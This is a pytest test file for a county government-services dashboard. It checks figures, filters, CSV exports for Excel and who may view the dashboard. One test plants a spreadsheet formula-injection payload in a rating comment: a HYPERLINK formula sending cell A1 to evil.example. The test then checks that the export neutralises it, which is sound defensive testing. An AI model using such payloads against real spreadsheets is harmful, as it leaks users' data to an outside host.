"""The county dashboard through the Flask test client: figures after applications are filed, accepted and
decided at the hall; filters; every table as CSV that Excel reads; who may see it."""

from __future__ import annotations

import csv
import io
import os
import re

import pytest

from harness.web import login
from node.cases.intake import Applicant, file_for_resident, transition
from node.cases.ratings import rate
from node.catalogue.data import sample_catalogue
from provisioning.operators import create_operator, hash_password
from storage.models import Application, Credential, Operator
from web import create_app

RESIDENT = Applicant("张秀英", "11010519491231002X", "13800138000", "顺庆区搬罾街道青山村3组")


def an_item():
    return next(i for i in sample_catalogue().current() if i.proxy_allowed and i.promised_limit.days > 0)


@pytest.fixture
def client(county_node):
    """Two applications filed at the county hall; one accepted and approved the same day."""
    numbers = [
        file_for_resident(
            county_node,
            sample_catalogue(),
            item_code=an_item().code,
            applicant=RESIDENT,
            consent=True,
            operator="li",
            request_token=os.urandom(16).hex(),
            now=county_node.now(),
        )[0]
        for _ in range(2)
    ]
    transition(county_node.events, numbers[0], "application.accepted", {"by": "zhou"})
    transition(county_node.events, numbers[0], "application.decided", {"by": "zhou", "approved": True})
    app = create_app(node=county_node)
    return app.test_client()


def test_the_county_admin_sees_the_figures_stamped_with_the_time_and_charts_drawn_on_the_server(client):
    login(client, "wang", "county-admin-1")
    page = client.get("/dashboard/").get_data(as_text=True)
    assert "截至" in page and "顺庆区政务服务中心" in page
    assert 'id="on-time-rate">100.0%<' in page
    assert page.count("<svg") == 3 and 'href="http' not in page  # charts drawn here, nothing fetched
    scripts = re.findall(r"<script[^>]*>", page)
    assert all('src="/static/' in s for s in scripts) and "chart" not in "".join(scripts)  # no chart script
    assert an_item().name in page and "县级及以上大厅" in page


def test_every_table_exports_to_csv_with_a_byte_order_mark_for_excel(client):
    login(client, "zhou", "clerk-pass-1")
    answer = client.get("/dashboard/items.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert answer.data.startswith("\ufeff".encode())
    about, _, table = answer.data.decode("utf-8-sig").partition("\r\n\r\n")  # what it covers, then the table
    assert "统计范围,顺庆区政务服务中心" in about and "期间,全部" in about and "筛选,无" in about
    rows = list(csv.reader(io.StringIO(table)))
    assert rows[0][:4] == ["事项编码", "事项", "部门", "申请"]
    assert rows[1][0] == an_item().code and rows[1][3] == "2" and rows[1][8] == "100.0%"
    dated = client.get(f"/dashboard/items.csv?since=2026-01-01&item={an_item().code}").data.decode("utf-8-sig")
    assert "期间,2026-01-01 至 今日" in dated and f"事项：{an_item().name}" in dated
    summary = list(csv.reader(io.StringIO(client.get("/dashboard/summary.csv").data.decode("utf-8-sig"))))
    assert ["申请件数", "2"] in summary and ["办结件数", "1"] in summary
    assert ["即办件数（收件当日办结）", "1"] in summary and ["即办率", "100.0%"] in summary  # decided the day filed
    assert client.get("/dashboard/counties.csv").status_code == 404  # a county's board has no counties table
    for name in ("stations", "bundles", "handling", "channels", "overdue", "ratings", "contacts"):
        assert client.get(f"/dashboard/{name}.csv").status_code == 200
    assert client.get("/dashboard/nothing.csv").status_code == 404


def test_filters_narrow_the_figures_and_a_bad_one_is_named_and_left_out(client):
    login(client, "wang", "county-admin-1")
    item = an_item()
    other = next(i for i in sample_catalogue().current() if i.department_code != item.department_code)
    by_department = client.get(f"/dashboard/summary.csv?department={other.department_code}").data.decode("utf-8-sig")
    assert "申请件数,0" in by_department
    page = client.get("/dashboard/?station=511399-01&since=yesterday&until=2026-02-30").get_data(as_text=True)
    assert "不在本辖区" in page and "不是有效日期" in page
    assert 'id="on-time-rate">100.0%<' in page  # the whole county, as if no filter had been given
    future = client.get("/dashboard/summary.csv?since=2099-01-01").data.decode("utf-8-sig")
    assert "申请件数,0" in future


def test_agents_and_people_of_another_county_cannot_see_the_dashboard(client):
    login(client, "li", "agent-pass-1")
    assert client.get("/dashboard/").status_code == 403
    assert client.get("/dashboard/summary.csv").status_code == 403
    # An admin account of the neighbouring county, as if it could log in here.
    Operator.create(username="zhao", station="511303-00", name="赵主任", role="admin")
    Credential.create(username="zhao", password_hash=hash_password("other-county-1"))
    client.post("/logout")
    login(client, "zhao", "other-county-1")
    assert client.get("/dashboard/").status_code == 403
    assert client.get("/dashboard/items.csv").status_code == 403


def test_a_village_station_has_no_dashboard(node):
    create_operator(
        node.events, node.identity.station, username="cun", name="村管理员", role="admin", password="village-admin-1"
    )
    village = create_app(node=node).test_client()
    login(village, "cun", "village-admin-1")
    assert village.get("/dashboard/").status_code == 403


def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, county_node):
    number = Application.get(Application.state == "approved").number
    transition(county_node.events, number, "application.delivered", {"by": "li"})
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    rate(county_node.events, number, "very_dissatisfied", ["other"], attack, "query")
    login(client, "zhou", "clerk-pass-1")
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/ratings.csv").data.decode("utf-8-sig"))))
    rows = rows[rows.index([]) + 1 :]  # after what the file covers
    assert rows[1][0] == number and rows[1][4] == "'" + attack


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_every_cell_that_opens_like_a_formula_is_written_as_text(cell):
    from node.hub.dashboard import Table
    from node.hub.export import csv_bytes

    table = Table("t", "t", ("a", "b"), [(cell, -3)])
    assert list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))[1] == ["'" + cell, "-3"]
